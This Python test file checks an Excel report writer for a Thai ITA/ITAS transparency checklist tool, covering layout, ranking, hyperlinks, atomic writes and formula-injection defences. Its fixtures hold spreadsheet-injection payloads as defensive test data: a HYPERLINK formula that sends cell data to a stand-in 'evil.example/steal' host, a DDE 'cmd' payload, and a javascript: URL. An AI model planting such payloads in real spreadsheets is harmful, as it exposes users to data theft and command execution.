"""report.xlsx read back: the work list, the ITAS sheet, formula-safe cells, atomic writes."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest

from checklist.profile import example_profile_path, load_profile
from reports.xlsx import write_xlsx
from tests.report_samples import SITE, sample_report

GAINS = {"O10": 8.33, "O12": 12.5, "O16": 6.25, "O27": 25.0, "O33": 25.0}
EVIL_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"คลิก")'


def _report(**kw):
    report = sample_report(gains=GAINS, **kw)
    items = list(report.items)
    items[0] = items[0].model_copy(update={"title": EVIL_TITLE})
    items[2] = items[2].model_copy(update={"problems": ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]})
    return report.model_copy(update={"items": items})


@pytest.fixture(scope="module")
def book(tmp_path_factory) -> tuple[Path, openpyxl.Workbook]:
    report = _report(profile=load_profile(example_profile_path()))
    path = write_xlsx(report, tmp_path_factory.mktemp("xlsx") / "report.xlsx")
    return path, openpyxl.load_workbook(path)


def rows_by_code(ws) -> dict[str, dict[str, object]]:
    header = [c.value for c in ws[1]]
    out = {}
    for row in ws.iter_rows(min_row=2):
        values = dict(zip(header, row, strict=True))
        out[values["รหัส"].value] = values
    return out


def col(header_start: str, ws) -> str:
    return next(c.value for c in ws[1] if str(c.value).startswith(header_start))


def test_sheets(book):
    _, wb = book
    assert wb.sheetnames[:2] == ["รายการงาน", "ITAS"]
    assert wb.active.title == "รายการงาน"


def test_work_list_one_row_per_item(book):
    _, wb = book
    ws = wb["รายการงาน"]
    rows = rows_by_code(ws)
    # what to do first: the gaps by the points they add (ranked), then the items found
    assert list(rows) == ["O27", "O33", "O12", "O10", "O16", "O1", "O2", "O6"]
    assert [r["ลำดับ"].value for r in rows.values()] == [1, 2, 3, 4, 5, None, None, None]
    o10 = {k: v.value for k, v in rows["O10"].items()}
    assert o10["สถานะ"] == "ล้าสมัย"
    assert o10["สิ่งที่ต้องทำ"].startswith("แทนไฟล์ปีงบประมาณ 2568 (" + SITE + "docs/action-plan-2568.pdf)")
    assert o10["หน่วยงานรับผิดชอบ"] == "กองยุทธศาสตร์และงบประมาณ"
    assert o10["หลักฐานหลัก (URL)"] == SITE + "docs/action-plan-2568.pdf"
    assert o10["เส้นทางคลิกจากหน้าแรก"] == "หน้าแรก > ITA > O10 แผนดำเนินงาน"
    assert "2568" in o10["ปัญหาที่พบ"]
    assert o10["เหตุผล"]
    assert o10["คะแนน OIT ที่เพิ่มถ้าแก้ไข (ประมาณ)"] == 8.3  # rounded as in every report file
    assert o10["มาตรการ"] == "มาตรการเผยแพร่ข้อมูลต่อสาธารณะ"
    # the example profile's measures are of FY 2565: their due dates, said to be over, not late
    assert o10["กำหนดรายงานตามมาตรการ"] == (
        "รอบ 6 เดือน: 31 มีนาคม 2565 (ปีงบประมาณนั้นสิ้นสุดแล้ว)\n"
        "รอบ 12 เดือน: 30 กันยายน 2565 (ปีงบประมาณนั้นสิ้นสุดแล้ว)"
    )
    o12 = {k: v.value for k, v in rows["O12"].items()}
    assert o12["สถานะ"] == "ไม่พบ" and o12["หลักฐานหลัก (URL)"] is None
    assert "404" in o12["ปัญหาที่พบ"]
    assert o12["สิ่งที่ต้องทำ"].startswith("แก้ลิงก์เสีย")
    assert rows["O1"]["สิ่งที่ต้องทำ"].value is None


def test_hyperlink_only_for_http(book):
    _, wb = book
    ws = wb["รายการงาน"]
    rows = rows_by_code(ws)
    url_col = col("หลักฐานหลัก", ws)
    o1 = rows["O1"][url_col]
    assert o1.hyperlink is not None and o1.hyperlink.target == SITE + "about/structure.html"
    o16 = rows["O16"][url_col]  # evidence[0] is javascript:alert(1)
    assert o16.value == "javascript:alert(1)"
    assert o16.hyperlink is None


def test_layout(book):
    _, wb = book
    for name in ("รายการงาน", "ITAS"):
        ws = wb[name]
        assert ws.freeze_panes in ("B2", "C2", "D2")
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
        assert max(ws.column_dimensions[c].width for c in "BC") >= 30
        assert ws["A2"].font.name == "Tahoma"
    ws = wb["รายการงาน"]
    rows = rows_by_code(ws)
    status = col("สถานะ", ws)
    fills = {code: rows[code][status].fill.fgColor.rgb for code in ("O1", "O10", "O12", "O16")}
    assert len(set(fills.values())) == 4  # one colour per status


def test_formula_text_stays_text(book):
    path, wb = book
    ws = wb["รายการงาน"]
    title = rows_by_code(ws)["O1"]["รายการ"]
    assert title.value == EVIL_TITLE
    assert title.data_type == "s"
    assert title.quotePrefix
    for cell in rows_by_code(ws)["O6"].values():  # O6's problems start with + @ -
        if isinstance(cell.value, str) and cell.value.startswith(("+", "@", "-")):
            assert cell.data_type == "s"
    assert wb["ITAS"]["B2"].data_type == "s"
    # no formula anywhere in the file
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_itas_sheet(book):
    _, wb = book
    ws = wb["ITAS"]
    rows = rows_by_code(ws)
    answer, why, urls = col("ส่งได้หรือยัง", ws), col("เหตุผล", ws), col("URL ที่ส่ง ลำดับ 1", ws)
    paths, explain = col("วิธีเข้าถึง", ws), col("คำอธิบาย", ws)
    assert rows["O1"][answer].value == "พร้อมส่ง"
    assert rows["O1"][urls].value == SITE + "about/structure.html"
    assert rows["O1"][urls].hyperlink.target == SITE + "about/structure.html"
    assert rows["O1"][paths].value == "1) หน้าแรก > ITA > O1 โครงสร้าง"
    assert "หน้าแรก > ITA > O1 โครงสร้าง" in rows["O1"][explain].value
    for code in ("O10", "O12", "O16", "O27", "O33"):  # outdated, missing, review: not yet
        assert rows[code][answer].value == "ยังไม่ควรส่ง", code
        assert rows[code][urls].value is None, code  # the old file is not offered for submission
    assert rows["O10"][why].value.startswith("ยังไม่ควรส่ง: ข้อมูลที่พบเป็นของปีก่อน ให้แทนไฟล์ปีงบประมาณ 2568")


def test_itas_urls_best_first_one_per_line(tmp_path):
    report = sample_report()
    items = list(report.items)
    o2 = items[1]
    extra = o2.evidence[0].model_copy(
        update={"url": SITE + "about/executives-2.html", "click_path": []}
    )
    items[1] = o2.model_copy(update={"evidence": [o2.evidence[0], extra, o2.evidence[0]]})
    path = write_xlsx(report.model_copy(update={"items": items}), tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(path)["ITAS"]
    row = rows_by_code(ws)["O2"]
    cells = [row[col(f"URL ที่ส่ง ลำดับ {n}", ws)] for n in (1, 2, 3)]
    assert [c.value for c in cells] == [SITE + "about/executives.html", SITE + "about/executives-2.html", None]
    assert [c.hyperlink.target for c in cells[:2]] == [c.value for c in cells[:2]]  # each its own link
    assert row[col("วิธีเข้าถึง", ws)].value.split("\n") == [
        "1) หน้าแรก > เกี่ยวกับเรา > ทำเนียบผู้บริหาร",
        "2) หน้าแรก (ไม่พบเส้นทางคลิกจากหน้าแรก)",
    ]


def test_without_profile_no_due_dates(tmp_path):
    path = write_xlsx(sample_report(profile=None), tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(path)["รายการงาน"]
    due = col("กำหนดรายงาน", ws)
    assert all(r[due].value is None for r in rows_by_code(ws).values())


def test_control_characters_are_dropped(tmp_path):
    report = sample_report()
    items = list(report.items)
    items[0] = items[0].model_copy(
        update={"title": "โครง\x00สร้าง\x1b[31m", "problems": ["x" * 40000]}
    )
    path = write_xlsx(report.model_copy(update={"items": items}), tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(path)["รายการงาน"]
    row = rows_by_code(ws)["O1"]
    assert row["รายการ"].value == "โครงสร้าง[31m"
    assert max(len(str(c.value or "")) for c in row.values()) <= 32767


def test_atomic_write_keeps_old_file_on_failure(tmp_path, monkeypatch):
    path = tmp_path / "report.xlsx"
    path.write_bytes(b"old")

    def boom(*a, **k):
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", boom)
    with pytest.raises(OSError):
        write_xlsx(sample_report(), path)
    assert path.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]


def test_write_replaces_and_creates_folder(tmp_path):
    path = tmp_path / "out" / "report.xlsx"
    assert write_xlsx(sample_report(), path) == path
    path.write_bytes(b"old")
    write_xlsx(sample_report(), path)
    assert zipfile.is_zipfile(path)
    assert sorted(p.name for p in path.parent.iterdir()) == ["report.xlsx"]


def test_hostile_report(tmp_path):
    from tests.report_samples import PWN, hostile_report

    path = write_xlsx(hostile_report(), tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(path)
    texts = [
        c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    ]
    assert any(PWN in t for t in texts)  # kept as text
    links = [c.hyperlink.target for ws in wb for row in ws.iter_rows() for c in row if c.hyperlink]
    assert links and all(t.startswith(("http://", "https://")) for t in links)


@pytest.mark.parametrize("text", [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1",
])
def test_every_formula_start_is_quoted(tmp_path, text):
    """Each character a spreadsheet takes as the start of a formula (issue 19): the cell is a
    string marked with Excel's quote prefix, so that editing it never turns it into a formula."""
    from reports.xlsx import put

    wb = openpyxl.Workbook()
    put(wb.active, 1, 1, text)
    put(wb.active, 2, 1, "ข้อความธรรมดา")
    wb.save(tmp_path / "t.xlsx")
    back = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cell = back["A1"]
    assert cell.data_type == "s" and cell.quotePrefix, (text, cell.value)
    assert not back["A2"].quotePrefix  # the mark is not put on every cell
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<f " not in sheet
